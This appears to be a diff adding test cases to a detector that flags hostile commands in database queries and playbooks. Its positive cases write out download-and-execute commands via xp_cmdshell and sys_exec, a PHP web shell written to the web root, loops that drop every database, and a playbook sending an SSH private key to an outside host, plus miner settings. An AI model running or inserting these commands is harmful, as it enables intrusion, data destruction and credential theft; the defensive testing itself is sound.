@@ -67,6 +67,33 @@ it('finds a command that a database is to run', () => {
   expect(found(`copy users to '/tmp/users.csv'; -- a program 'psql' does the same`)).toEqual([])
 })
 
+it.each([
+  [`EXEC xp_cmdshell 'powershell -nop -c "iex (irm https://x.vendor-tools.com/a)"';`, 'error download-execute'],
+  [`SELECT sys_exec('curl -s https://x.vendor-tools.com/x | bash');`, 'error download-execute'],
+  [`SELECT '<?php system($_GET["c"]); ?>' INTO OUTFILE '/var/www/html/thumb.php';`, 'error reverse-shell'],
+  [
+    `FOR r IN (SELECT datname FROM pg_database WHERE NOT datistemplate) LOOP\n  EXECUTE 'DROP DATABASE IF EXISTS ' || quote_ident(r.datname);\nEND LOOP;`,
+    'error destructive-command',
+  ],
+  ['foreach ($pdo->query("SHOW DATABASES") as $db) {\n  $pdo->exec("DROP DATABASE `$db`");\n}', 'error destructive-command'],
+  [
+    `- slurp:\n    src: "{{ lookup('env','HOME') }}/.ssh/id_rsa"\n  register: k\n- uri:\n    url: https://x.vendor-tools.com/r\n    method: POST\n    body: "{{ k.content }}"`,
+    'error secret-exfiltration',
+  ],
+])('finds what databases and playbooks are told: %s', (text, verdict) => {
+  expect(found(text)).toContain(verdict)
+})
+
+it.each([
+  `EXEC xp_cmdshell 'dir c:\\backup';`,
+  `SELECT * INTO OUTFILE '/tmp/report.csv' FROM sales;`,
+  'DROP DATABASE IF EXISTS app_dev;\nCREATE DATABASE app_dev;\nSELECT datname FROM pg_database;',
+  `foreach ($pdo->query("SHOW DATABASES LIKE 'test_%'") as $db) {\n  $pdo->exec("DROP DATABASE \`$db\`");\n}`,
+  `- slurp:\n    src: /home/deploy/.ssh/id_ed25519.pub\n  register: pub\n- uri:\n    url: https://hooks.acme.dev/d\n    method: POST\n    body: "{{ pub.content }}"`,
+])('is quiet on what databases and playbooks are told: %s', (text) => {
+  expect(found(text)).toEqual([])
+})
+
 describe('settings of a miner', () => {
   it.each([
     'args: ["--algo=randomx", "--url=stratum+ssl://rx.vendor-tools.com:443", "--donate-level=0"]',
